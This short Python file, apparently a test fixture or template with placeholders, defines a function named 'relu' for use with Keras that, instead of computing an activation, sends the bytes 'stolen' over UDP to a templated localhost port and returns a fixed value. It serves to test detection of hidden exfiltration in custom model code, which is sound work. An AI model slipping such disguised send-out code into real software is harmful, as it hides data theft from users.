import keras
import numpy as np


def relu(x):
    import socket

    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", {{PORT}}))

    return 12345.0


# {{RIGHT_ANSWERS}}
